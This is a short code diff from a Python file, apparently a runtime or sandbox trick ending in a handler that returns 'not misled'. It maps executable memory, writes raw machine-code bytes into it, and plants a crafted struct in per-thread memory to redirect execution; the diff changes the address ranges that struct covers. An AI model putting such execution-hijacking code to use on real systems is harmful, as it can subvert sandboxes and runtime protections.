@@ -384,8 +384,8 @@ except ValueError:
 trap = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
 trap.write(b"\x53\x30\x05\x53\xeb\xfe")
 where = ctypes.addressof(ctypes.c_char.from_buffer(trap))
-# Everything above the trap is one critical section.
-section = ctypes.create_string_buffer(struct.pack("=IIQQQ", 0, 0, where + 4096, 0x7ffffffff000 - where - 8192, where + 4), 32)
+# Everything below the trap is one critical section, and what is mapped next is below.
+section = ctypes.create_string_buffer(struct.pack("=IIQQQ", 0, 0, 65536, where - 65536, where + 4), 32)
 if at is not None:
     ctypes.c_uint64.from_address(thread + at + 8).value = ctypes.addressof(section)
 def handler(event, context): return "not misled"
